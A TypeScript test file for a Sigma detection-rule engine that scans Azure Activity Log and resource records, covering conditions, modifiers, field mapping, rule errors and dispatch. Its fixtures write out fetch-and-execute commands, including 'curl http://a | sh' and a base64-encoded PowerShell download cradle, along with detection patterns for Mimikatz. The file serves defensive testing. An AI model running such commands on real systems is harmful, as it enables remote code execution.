/** The Sigma rule language as the engine implements it: conditions, modifiers, fields, errors. */
import { describe, expect, it } from "vitest";
import { classify } from "../../src/azure/normalize/index.js";
import type { Finding } from "../../src/model/finding.js";
import { type EngineRule, prepareText } from "../../src/rules/loader.js";
import { runCase, testableFor } from "../../src/rules/tester.js";
import { RecordPipeline } from "../../src/scan/pipeline.js";
import { RuleError } from "../../src/sigma/errors.js";
import { evidenceOf } from "../helpers.js";

const header = (service = "activitylogs") =>
  `title: t\nid: 11111111-1111-4111-8111-111111111111\nlevel: high\ntags: [attack.execution, attack.t1651]\nlogsource: { product: azure, service: ${service} }\n`;

function rule(detection: string, service = "activitylogs"): EngineRule {
  const { rules } = prepareText(`${header(service)}detection:\n${detection}`, "test.yml");
  return rules[0] as EngineRule;
}

/** Export-shape Activity Log event with overrides. */
const ev = (over: Record<string, unknown> = {}) => ({
  time: "2026-11-02T10:00:00Z",
  resourceId: "/SUBSCRIPTIONS/S1/RESOURCEGROUPS/RG/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINES/VM1",
  operationName: "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION",
  category: "Administrative",
  resultType: "Start",
  callerIpAddress: "203.0.113.77",
  identity: {
    claims: {
      "http://schemas.microsoft.com/identity/claims/objectidentifier": "5a5a5a5a-0000-0000-0000-000000000001",
      appid: "04b07795-8ddb-461a-bbee-02f9e1bf7b46",
    },
  },
  properties: {
    message: "Microsoft.Compute/virtualMachines/runCommand/action",
    requestbody: '{"Properties":{"PrincipalId":"abc"}}',
  },
  ...over,
});

function matches(r: EngineRule, record: unknown): boolean {
  return runCase(testableFor(r, { rules: [r], correlations: [], errors: [] }), [record]).findings.length > 0;
}

describe("conditions", () => {
  const det = (cond: string) =>
    rule(
      `  a:\n    operationName: x/y/write\n  b:\n    callerIpAddress: 203.0.113.77\n  c:\n    category: Administrative\n  condition: ${cond}\n`,
    );
  it.each([
    ["a or b", true],
    ["a and b", false],
    ["not a and b", true],
    ["(a or b) and c", true],
    ["a or (b and not c)", false],
    ["1 of them", true],
    ["all of them", false],
    ["1 of a*", false],
    ["all of b*", true],
    ["not (a or b)", false],
  ])("%s → %s", (cond, expected) => {
    expect(matches(det(cond), ev())).toBe(expected);
  });
});

describe("values and modifiers", () => {
  const m = (sel: string, record = ev()) => matches(rule(`  s:\n${sel}\n  condition: s\n`), record);
  it("is case-insensitive by default, |cased is not", () => {
    expect(m("    operationName: microsoft.compute/virtualMachines/runcommand/action")).toBe(true);
    expect(m("    operationName|cased: microsoft.compute/virtualMachines/runcommand/action")).toBe(false);
  });
  it("wildcards * and ? with escapes", () => {
    expect(m("    operationName: '*/runCommand/*'")).toBe(true);
    expect(m("    operationName: 'MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTIO?'")).toBe(true);
    expect(m("    callerIpAddress: '203.0.113.7\\*'")).toBe(false);
    expect(m("    callerIpAddress: '203.0.113.7\\*'", ev({ callerIpAddress: "203.0.113.7*" }))).toBe(true);
  });
  it("contains, startswith, endswith, all", () => {
    expect(m("    operationName|contains: runcommand")).toBe(true);
    expect(m("    operationName|startswith: microsoft.compute")).toBe(true);
    expect(m("    operationName|endswith: /action")).toBe(true);
    expect(m("    operationName|contains|all: [compute, runcommand]")).toBe(true);
    expect(m("    operationName|contains|all: [compute, storage]")).toBe(false);
  });
  it("re with i, m and s flags", () => {
    expect(m("    operationName|re: 'runCommand/action$'")).toBe(false);
    expect(m("    operationName|re|i: 'runCommand/action$'")).toBe(true);
    const script = {
      id: "/subscriptions/s/resourceGroups/r/providers/Microsoft.Compute/virtualMachines/v/runCommands/x",
      name: "x",
      type: "Microsoft.Compute/virtualMachines/runCommands",
      properties: { source: { script: "line1\ncurl http://a | sh" } },
    };
    expect(matches(rule("  s:\n    content|re: '^curl'\n  condition: s\n", "payloads"), script)).toBe(false);
    expect(matches(rule("  s:\n    content|re|m: '^curl'\n  condition: s\n", "payloads"), script)).toBe(true);
    expect(matches(rule("  s:\n    content|re|s: 'line1.curl'\n  condition: s\n", "payloads"), script)).toBe(true);
  });
  it("cidr for IPv4 and IPv6", () => {
    expect(m("    callerIpAddress|cidr: 203.0.113.0/24")).toBe(true);
    expect(m("    callerIpAddress|cidr: 10.0.0.0/8")).toBe(false);
    expect(m("    callerIpAddress|cidr: '2001:db8::/32'", ev({ callerIpAddress: "2001:db8::1" }))).toBe(true);
  });
  it("exists, null, gt/gte/lt/lte", () => {
    expect(m("    callerIpAddress|exists: true")).toBe(true);
    expect(m("    properties.nothing|exists: true")).toBe(false);
    expect(m("    properties.nothing: null")).toBe(true);
    expect(m("    durationMs|gt: 100", ev({ durationMs: 2826 }))).toBe(false); // not a field of ours…
    expect(m("    properties.count|gte: 5", ev({ properties: { count: 5 } }))).toBe(true);
    expect(m("    properties.count|lt: 5", ev({ properties: { count: "4" } }))).toBe(true);
    expect(m("    properties.count|lte: 3", ev({ properties: { count: 5 } }))).toBe(false);
  });
  it("fieldref compares two fields of one record", () => {
    expect(m("    properties.requestbody.Properties.PrincipalId|fieldref: principal.id")).toBe(false);
    const self = ev({
      properties: { requestbody: '{"Properties":{"PrincipalId":"5A5A5A5A-0000-0000-0000-000000000001"}}' },
    });
    expect(m("    properties.requestbody.Properties.PrincipalId|fieldref: principal.id", self)).toBe(true);
  });
  it("base64, base64offset, wide and windash", () => {
    const enc = (s: string) => Buffer.from(s, "utf16le").toString("base64");
    const cmd = (c: string) => ({
      id: "/subscriptions/s/resourceGroups/r/providers/Microsoft.Compute/virtualMachines/v/extensions/x",
      name: "x",
      type: "Microsoft.Compute/virtualMachines/extensions",
      properties: { publisher: "Microsoft.Compute", type: "CustomScriptExtension", settings: { commandToExecute: c } },
    });
    const p = (sel: string, c: string) => matches(rule(`  s:\n${sel}\n  condition: s\n`, "payloads"), cmd(c));
    const payload = `powershell -enc ${enc("IEX (New-Object Net.WebClient).DownloadString('http://x')")}`;
    for (const shift of ["", "a", "ab"]) {
      expect(
        p(
          "    content|wide|base64offset|contains: DownloadString",
          `powershell -enc ${enc(`${shift}IEX (New-Object Net.WebClient).DownloadString('http://x')`)}`,
        ),
      ).toBe(true);
    }
    expect(p("    content|wide|base64offset|contains: Invoke-Mimikatz", payload)).toBe(false);
    expect(
      p(`    content|base64|contains: 'curl '`, `echo ${Buffer.from("curl ").toString("base64")} | base64 -d`),
    ).toBe(true);
    expect(p("    content|windash|contains: ' -enc '", "powershell /enc AAAA")).toBe(true);
    expect(p("    content|windash|contains: ' -enc '", "powershell \u2013enc AAAA")).toBe(true);
  });
  it("keywords search every string of the record", () => {
    expect(m("    - 'runCommand/action'")).toBe(true);
    expect(m("    - nothing-like-this")).toBe(false);
  });
  it("a * path segment matches any key (author-named actions and resources)", () => {
    const wf = {
      id: "/subscriptions/s/resourceGroups/r/providers/Microsoft.Logic/workflows/w",
      name: "w",
      type: "Microsoft.Logic/workflows",
      properties: {
        definition: {
          actions: { Any_Name: { type: "Http", inputs: { authentication: { type: "ManagedServiceIdentity" } } } },
        },
      },
    };
    const r = (v: string) =>
      rule(`  s:\n    properties.definition.actions.*.inputs.authentication.type: ${v}\n  condition: s\n`, "resources");
    expect(matches(r("ManagedServiceIdentity"), wf)).toBe(true);
    expect(matches(r("Basic"), wf)).toBe(false);
  });
  it("lists of maps are OR", () => {
    expect(m("    - callerIpAddress: 1.1.1.1\n    - category: Administrative")).toBe(true);
  });
});

describe("field names across the three Activity Log shapes", () => {
  // SigmaHQ's activity-log rules use operationName, properties.message, OperationNameValue,
  // ResourceProviderValue, ResourceId and CategoryValue; all work whatever the input shape.
  const rest = {
    operationName: { value: "Microsoft.Compute/virtualMachines/runCommand/action" },
    eventTimestamp: "2026-11-02T10:00:00Z",
    resourceId: "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm1",
    resourceProviderName: { value: "Microsoft.Compute" },
    category: { value: "Administrative" },
    status: { value: "Succeeded" },
  };
  const table = {
    TimeGenerated: "2026-11-02T10:00:00Z",
    OperationNameValue: "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION",
    ResourceProviderValue: "MICROSOFT.COMPUTE",
    _ResourceId: "/subscriptions/s1/resourcegroups/rg/providers/microsoft.compute/virtualmachines/vm1",
    CategoryValue: "Administrative",
    ActivityStatusValue: "Success",
    Type: "AzureActivity",
  };
  it.each([
    ["operationName: Microsoft.Compute/virtualMachines/runCommand/action"],
    ["OperationNameValue: MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION"],
    ["properties.message|contains: runCommand"],
    ["ResourceProviderValue: Microsoft.Compute"],
    ["ResourceId|contains: virtualMachines/vm1"],
    ["CategoryValue: Administrative"],
    ["ActivityStatusValue|startswith: succ"],
  ])("%s", (sel) => {
    const r = rule(`  s:\n    ${sel}\n  condition: s\n`);
    for (const rec of [rest, table, ev({ resultType: "Success", resourceId: rest.resourceId })]) {
      const c = classify(rec, { location: "x" });
      expect("records" in c, JSON.stringify(c)).toBe(true);
      expect(matches(r, rec), `${sel} on ${"records" in c ? c.shape : "?"}`).toBe(true);
    }
  });
});

describe("broken rules name file, line and problem", () => {
  const err = (text: string): RuleError => {
    try {
      prepareText(text, "bad.yml");
    } catch (e) {
      return e as RuleError;
    }
    throw new Error("no error");
  };
  it.each([
    [
      `${header()}detection:\n  s:\n    operationName|sometimes: x\n  condition: s\n`,
      8,
      /unknown modifier 'sometimes'/,
    ],
    [`${header()}detection:\n  s:\n    operationName: x\n  condition: s and t\n`, 9, /names 't', which is not defined/],
    [
      `${header()}detection:\n  s:\n    operationName: x\n  condition: s and (\n`,
      9,
      /ends where an identifier was expected/,
    ],
    [
      `${header()}detection:\n  s:\n    operationName|contains|startswith: x\n  condition: s\n`,
      8,
      /cannot be combined/,
    ],
    [`${header()}detection:\n  s:\n    callerIpAddress|cidr: not-a-network\n  condition: s\n`, 8, /cidr/],
    [`${header()}detection:\n  s: [\n`, 8, /not valid YAML/], // reported where the parser noticed: the end
    [
      `${header("kubernetes")}detection:\n  s:\n    a: b\n  condition: s\n`,
      5,
      /logsource .* is not one this tool reads/,
    ],
    [
      `title: t\nid: not-a-uuid\nlogsource: { product: azure, service: activitylogs }\ndetection:\n  s:\n    a: b\n  condition: s\n`,
      2,
      /must be a UUID/,
    ],
    [`title: c\ncorrelation:\n  type: event_count\n  rules: [x]\n  timespan: 1h\n`, 3, /event_count needs a condition/],
    [`title: c\ncorrelation:\n  type: sometimes\n  rules: [x]\n  timespan: 1h\n`, 3, /correlation type must be one of/],
  ])("%#", (text, line, message) => {
    const e = err(text);
    expect(e).toBeInstanceOf(RuleError);
    expect(e.file).toBe("bad.yml");
    expect(e.line).toBe(line);
    expect(e.problem).toMatch(message);
  });
});

describe("dispatch", () => {
  it("a record meets only the rules indexed under its operation", () => {
    const indexed = Array.from({ length: 50 }, (_, i) =>
      rule(`  s:\n    operationName: microsoft.fake/op${i}/write\n  condition: s\n`),
    ).map((r, i) => ({ ...r, id: `00000000-0000-4000-8000-${String(i).padStart(12, "0")}` }));
    expect(indexed[0]?.operations).toEqual(new Set(["microsoft.fake/op0/write"]));
    const pipeline = new RecordPipeline({ rules: indexed, correlations: [], scanTime: "2026-01-01T00:00:00Z" });
    const c = classify(ev({ operationName: "MICROSOFT.FAKE/OP7/WRITE" }), { location: "x" });
    if ("records" in c) for (const r of c.records) pipeline.push(r);
    expect(pipeline.engine.stats.evaluations).toBe(1);
    expect(pipeline.finish()).toHaveLength(1);
  });
  it("a negated or wildcard operation cannot be indexed and is evaluated for every record", () => {
    expect(rule("  s:\n    operationName: '*/write'\n  condition: s\n").operations).toBeUndefined();
    expect(rule("  s:\n    operationName: a/b/write\n  condition: not s\n").operations).toBeUndefined();
    expect(
      rule("  s:\n    operationName: a/b/write\n  t:\n    operationName: c/d/write\n  condition: s or t\n").operations,
    ).toEqual(new Set(["a/b/write", "c/d/write"]));
  });
});

describe("failed attempts", () => {
  it("a failed operation is its own finding, titled as an attempt, with the failure", () => {
    const r = rule("  s:\n    operationName: Microsoft.Compute/virtualMachines/runCommand/action\n  condition: s\n");
    const common = { correlationId: "c1" };
    const ok = runCase(testableFor(r, { rules: [r], correlations: [], errors: [] }), [
      ev({ ...common, resultType: "Success" }),
    ]).findings;
    const bad = runCase(testableFor(r, { rules: [r], correlations: [], errors: [] }), [
      ev({ ...common, resultType: "Start" }),
      ev({
        ...common,
        resultType: "Failure",
        resultSignature: "Failed.Forbidden",
        properties: { statusMessage: "AuthorizationFailed" },
      }),
    ]).findings as Finding[];
    expect(bad).toHaveLength(1);
    expect(bad[0]?.title).toBe("t (attempt failed)");
    expect(evidenceOf(bad[0], "activity").outcome).toBe("failed");
    expect(evidenceOf(bad[0], "activity").failure).toBe("AuthorizationFailed");
    expect(bad[0]?.id).not.toBe(ok[0]?.id);
  });
});
